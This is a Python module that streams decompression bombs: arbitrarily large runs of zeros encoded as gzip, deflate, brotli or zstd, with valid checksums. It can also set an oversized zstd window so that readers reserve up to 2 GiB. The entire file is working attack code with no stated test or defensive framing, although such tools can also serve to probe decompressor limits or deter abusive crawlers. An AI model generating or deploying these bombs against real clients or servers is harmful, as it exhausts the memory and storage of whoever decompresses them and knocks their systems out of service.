"""Decompression bombs as streams: any size of zeros, made without holding or compressing that size."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Iterator
from itertools import repeat
from typing import Literal

import brotli  # type: ignore[import-untyped]

Encoding = Literal["gzip", "deflate", "br", "zstd"]

MEBIBYTE = 1 << 20
# Compressed units are sent together until a piece has about this size, so that a bomb costs few writes.
PIECE_BYTES = 1 << 16
# RFC 8878 section 3.1.1.2.3: a block is at most 128 KiB and at most the window.
ZSTD_BLOCK_BYTES = 1 << 17
# The CRC-32 polynomial of RFC 1952 section 8, bit-reversed.
CRC_POLYNOMIAL = 0xEDB88320


def bomb_pieces(encoding: Encoding, size_bytes: int, zstd_window_log: int = 17) -> Iterator[bytes]:
    """Yield the compressed form of `size_bytes` zeros, complete and with right checksums.

    `zstd_window_log` is the base-2 logarithm of the window that the zstd frame asks its reader to keep (17 to 31).
    """
    if encoding == "gzip":
        yield b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
        yield from _deflate_blocks(size_bytes)
        yield struct.pack("<LL", crc32_of_zeros(size_bytes), size_bytes & 0xFFFFFFFF)
    elif encoding == "deflate":
        yield b"\x78\xda"
        yield from _deflate_blocks(size_bytes)
        # Adler-32 (RFC 1950 section 9) of n zeros: the low sum stays 1, the high one counts the bytes.
        yield struct.pack(">L", (size_bytes % 65521) << 16 | 1)
    elif encoding == "br":
        yield from _brotli_blocks(size_bytes)
    else:
        yield from _zstd_blocks(size_bytes, zstd_window_log)


def crc32_of_zeros(count: int) -> int:
    """Return the CRC-32 of `count` zero bytes in a time that grows with the logarithm of `count`."""
    # Feeding a zero byte multiplies the register by x^8 modulo the polynomial, so n of them by x^(8n).
    power, factor, bits = 0x80000000, 0x40000000, 8 * count
    while bits:
        if bits & 1:
            power = _crc_multiply(power, factor)
        factor = _crc_multiply(factor, factor)
        bits >>= 1
    return _crc_multiply(0xFFFFFFFF, power) ^ 0xFFFFFFFF


def _crc_multiply(left: int, right: int) -> int:
    product = 0
    for bit in range(31, -1, -1):
        if left >> bit & 1:
            product ^= right
        right = right >> 1 ^ (CRC_POLYNOMIAL if right & 1 else 0)
    return product


def _deflate_blocks(size_bytes: int) -> Iterator[bytes]:
    # A full flush ends on a byte and forgets the window, so the same bytes may follow themselves for ever.
    deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
    unit = deflater.compress(bytes(MEBIBYTE)) + deflater.flush(zlib.Z_FULL_FLUSH)
    yield from _repeated(unit, size_bytes // MEBIBYTE)
    last = zlib.compressobj(9, zlib.DEFLATED, -15)
    yield last.compress(bytes(size_bytes % MEBIBYTE)) + last.flush()


def _brotli_blocks(size_bytes: int) -> Iterator[bytes]:
    # From the second block of zeros on, a flushed encoder writes the same bytes each time (measured: brotli 1.2).
    encoder = brotli.Compressor(quality=5)
    blocks, rest = divmod(size_bytes, MEBIBYTE)
    zeros = bytes(MEBIBYTE)
    units: list[bytes] = [encoder.process(zeros) + encoder.flush() for _ in range(min(blocks, 3))]
    yield from units
    if blocks > 3:
        if units[1] != units[2]:
            raise RuntimeError("this brotli does not repeat itself: the bomb cannot be streamed from one block")
        yield from _repeated(units[2], blocks - 3)
    if rest:
        yield encoder.process(zeros[:rest])
    yield encoder.finish()


def _zstd_blocks(size_bytes: int, window_log: int) -> Iterator[bytes]:
    if not 17 <= window_log <= 31:
        raise ValueError(f"zstd_window_log is {window_log}: give 17 to 31")
    # RFC 8878: magic number, frame header without content size or checksum, then run-length blocks of 4 bytes.
    yield b"\x28\xb5\x2f\xfd\x00" + bytes([(window_log - 10) << 3])
    blocks, rest = divmod(size_bytes, ZSTD_BLOCK_BYTES)
    yield from _repeated(_zstd_run(ZSTD_BLOCK_BYTES, last=False), blocks)
    yield _zstd_run(rest, last=True)


def _zstd_run(size_bytes: int, last: bool) -> bytes:
    return struct.pack("<L", size_bytes << 3 | 1 << 1 | last)[:3] + b"\x00"


def _repeated(unit: bytes, count: int) -> Iterator[bytes]:
    per_piece = max(1, PIECE_BYTES // len(unit))
    pieces, rest = divmod(count, per_piece)
    yield from repeat(unit * per_piece, pieces)
    if rest:
        yield unit * rest
